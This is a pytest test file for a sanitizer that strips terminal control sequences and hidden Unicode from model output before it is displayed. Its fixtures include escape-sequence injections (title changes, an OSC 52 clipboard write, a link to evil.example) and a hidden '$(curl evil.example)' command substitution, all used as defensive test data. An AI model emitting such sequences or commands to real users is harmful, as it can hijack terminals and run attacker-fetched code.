"""Text from a model reaches a terminal without control sequences."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bytebuddy_provider_hf.cli.terminal import (
    Sanitizer,
    VisiblePieces,
    hidden_characters,
    sanitize,
    sanitize_line,
    visible_controls,
)

SEQUENCES = {
    "colour": "a\x1b[31mb",
    "private mode": "a\x1b[?1049hb",
    "title, ended by BEL": "a\x1b]0;owned\x07b",
    "clipboard, ended by ST": "a\x1b]52;c;ZXZpbA==\x1b\\b",
    "hyperlink": "a\x1b]8;;http://evil.example\x1b\\b",
    "device control": "a\x1bP1$r0m\x1b\\b",
    "application command": "a\x1b_Gq=2\x1b\\b",
    "privacy message": "a\x1b^secret\x1b\\b",
    "start of string": "a\x1bXsecret\x1b\\b",
    "eight-bit CSI": "a\x9b31mb",
    "eight-bit OSC": "a\x9d0;owned\x9cb",
    "eight-bit DCS": "a\x90q\x9cb",
    "string broken by another sequence": "a\x1b]0;x\x1b[31mb",
    "string cancelled": "a\x1b]0;x\x18b",
    "charset": "a\x1b(Bb",
    "reset": "a\x1bcb",
    "bell, backspace, return, delete": "a\x07\x08\r\x7fb",
    "nothing but text": "ab",
}


@pytest.mark.parametrize("text", SEQUENCES.values(), ids=SEQUENCES)
def test_a_sequence_is_stripped_wherever_a_stream_cuts_it(text: str) -> None:
    """The same text is shown whole, cut in two anywhere, and one by one."""
    for cut in range(len(text) + 1):
        sanitizer = Sanitizer()
        assert sanitizer.feed(text[:cut]) + sanitizer.feed(text[cut:]) == "ab"
    sanitizer = Sanitizer()
    assert "".join(sanitizer.feed(character) for character in text) == "ab"


def test_line_feeds_and_tabs_stay() -> None:
    """Line feed and tab are text; a carriage return is not."""
    assert sanitize("a\r\n\tb") == "a\n\tb"


def test_an_unfinished_sequence_ends_with_its_line() -> None:
    """A sequence that never ends hides the rest of a line, not of an answer."""
    assert sanitize("a\x1b]0;x\nthe answer") == "a\nthe answer"


@pytest.mark.parametrize("control", "\u202a\u202e\u2066\u2069\u200e\u200f\u061c")
def test_bidirectional_controls_are_shown(control: str) -> None:
    """What would reorder text on screen is shown by its number."""
    assert sanitize(f"a{control}b") == f"a<U+{ord(control):04X}>b"


def test_ordinary_text_is_left_alone() -> None:
    """Accents, Chinese and emoji pass."""
    text = "Ça va? 你好 🤗\n\tdef f():\n"
    assert sanitize(text) == text


def test_one_line_holds_no_line_feed() -> None:
    """A name cannot add lines of its own to an error."""
    assert sanitize_line("a\nerror: b\t c") == "a error: b c"


def test_what_is_agreed_to_hides_nothing() -> None:
    """Of a diff every control character is seen: a file gets what the screen drops."""
    hidden = "echo hi\x1b]0;$(curl evil.example)\x07 \x9b8m\u202e\r \x00"
    shown = visible_controls(hidden)
    assert shown == (
        "echo hi<U+001B>]0;$(curl evil.example)<U+0007> <U+009B>8m<U+202E><U+000D> "
        "<U+0000>"
    )
    assert visible_controls("+a\t1\r\n-b\r\n+c\r") == "+a\t1\n-b\n+c"


@pytest.mark.parametrize(
    "hidden",
    [
        *("\x00", "\x08", "\x1b", "\x7f", "\x85", "\x9b"),
        *("\xad", "\u034f", "\u061c", "\u115f", "\u1160", "\u17b4", "\u180b", "\u180e"),
        *("\u200b", "\u200c", "\u200d", "\u200e", "\u2028", "\u2029", "\u202e"),
        *("\u2060", "\u2062", "\u2066", "\u2800", "\u3164", "\ufe00", "\ufe0f"),
        *("\ufeff", "\uffa0", "\ufff9", "\ufffb", "\ufff0", "\uffff", "\ue000"),
        *("\U0001d173", "\U000e0001", "\U000e0041", "\U000e0100", "\U000f0000"),
    ],
    ids=ascii,
)
def test_what_is_drawn_as_nothing_is_shown_by_its_number(hidden: str) -> None:
    """Controls, formats, separators, fillers, selectors, tags, private, unassigned."""
    number = f"<U+{ord(hidden):04X}>"
    assert visible_controls(f"x = 1{hidden}2") == f"x = 1{number}2"
    assert visible_controls(f"é你{hidden}") == f"é你{number}"
    assert hidden_characters(f"a\nb\n{hidden}x") == [(3, hidden)]


@pytest.mark.parametrize(
    "text",
    [
        "Ça va? 你好，世界。「引用」 日本語カタカナ 한국어 ภาษาไทย हिन्दी",
        "שלום עולם، مرحبا بالعالم ١٢٣ \u0600 \u06dd Привет Ελλάδα",
        "e\u0301 a\u00a0b\u3000c\u2003d → ≤ ½ ™ © …",
        "🤗 👩\u200d💻 👨🏻\u200d💻 🏳\ufe0f\u200d🌈",
        "❤\ufe0f 1\ufe0f\u20e3 ⚠\ufe0f ❤\ufe0e",
    ],
)
def test_text_that_is_seen_is_left_as_it_is(text: str) -> None:
    """Whatever the script; and what joins an emoji stays, in pieces as well."""
    assert visible_controls(text) == text
    assert hidden_characters(text) == []
    pieces = VisiblePieces()
    assert "".join(map(pieces.feed, text)) + pieces.end() == text


@given(
    text=st.text(
        alphabet=st.sampled_from("a 1\n\r\x1b\u202e\u200d\ufe0f\u20e3👩💻❤é你")
    ),
    cut=st.integers(0, 20),
)
def test_pieces_are_shown_as_the_whole(text: str, cut: int) -> None:
    """A stream may cut an emoji or a line's end anywhere."""
    pieces = VisiblePieces()
    shown = pieces.feed(text[:cut]) + pieces.feed(text[cut:]) + pieces.end()
    assert shown == visible_controls(text)


HOSTILE = st.text(alphabet=st.sampled_from("ab\n\t\x1b[]P\\\x07\x9b\x9d\x9c31m;\r\x7f"))


@given(pieces=st.lists(HOSTILE))
def test_no_control_character_passes_and_cuts_change_nothing(
    pieces: list[str],
) -> None:
    """Whatever comes in whatever pieces: only LF and TAB, and the same as whole."""
    sanitizer = Sanitizer()
    shown = "".join(sanitizer.feed(piece) for piece in pieces)
    assert shown == sanitize("".join(pieces))
    assert not any(
        ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F
        for character in shown
        if character not in "\n\t"
    )


@given(text=HOSTILE)
def test_no_control_character_passes_what_hides_nothing(text: str) -> None:
    """Only line feed and tab reach the screen, and no other character is lost."""
    shown = visible_controls(text)
    assert not any(
        ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F
        for character in shown
        if character not in "\n\t"
    )
    for character in "ab[]P\\31m;":
        assert shown.count(character) >= text.count(character)
